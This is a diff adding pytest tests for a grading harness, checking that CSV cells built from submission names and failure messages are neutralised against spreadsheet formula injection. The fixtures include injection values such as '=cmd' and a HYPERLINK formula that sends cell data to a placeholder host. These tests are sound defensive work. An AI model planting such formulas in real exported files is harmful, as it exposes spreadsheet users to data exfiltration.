@@ -2,7 +2,9 @@
 
 import csv
 
-from harness.tools import grade
+import pytest
+
+from harness.tools import grade, inert
 
 
 def test_grade_folder(tmp_path):
@@ -20,3 +22,30 @@ def test_grade_folder(tmp_path):
     said = {name: (tmp_path / "points-pictures" / name / "pictures.txt").read_text() for name in ("cheat", "hang")}
     assert "overlap.png: not drawn: tasks 2 and 3 did not run" in said["cheat"], said
     assert "no pictures: pytest did not reach the end of its session" in said["hang"], said
+
+
+def test_csv_cells_are_text_not_formulas(tmp_path, monkeypatch):
+    """A submission's file name and its failure messages are its own text: a cell that would start a
+    formula (OWASP: = + - @ tab, carriage return) starts with a quote instead; numbers stay numbers.
+    (grade() is replaced: what it returns is what the CSV must hold safely.)"""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    (folder / "=1+1.py").write_text("x = 1\n")
+    (folder / "@SUM(A1).py").write_text("y = 2\n")
+    failures = {"=1+1.py": '=HYPERLINK("http://e.example/?"&A1,"open")', "@SUM(A1).py": "\t-2+3"}
+    monkeypatch.setattr(grade, "grade", lambda path, timeout, pytest_args, artifacts=None: {
+        "submission": path.name, "task 1 forward": 3, "total": -1, "failures": failures[path.name]})
+    out = tmp_path / "points.csv"
+    grade.cli([str(folder), "--out", str(out)])
+    rows = {r["submission"]: r for r in csv.DictReader(out.open())}
+    assert set(rows) == {"'=1+1.py", "'@SUM(A1).py"}, rows
+    assert rows["'=1+1.py"]["failures"] == "'" + failures["=1+1.py"], rows
+    assert rows["'@SUM(A1).py"]["failures"] == "'\t-2+3", rows
+    assert rows["'=1+1.py"]["task 1 forward"] == "3" and rows["'=1+1.py"]["total"] == "-1", rows
+
+
+@pytest.mark.parametrize("value, cell", [("=cmd", "'=cmd"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@x", "'@x"),
+                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("-0.5", "-0.5"),
+                                         ("-3", "-3"), (-3, -3), (0.5, 0.5), ("", "")])
+def test_csv_cell(value, cell):
+    assert inert.csv_cell(value) == cell
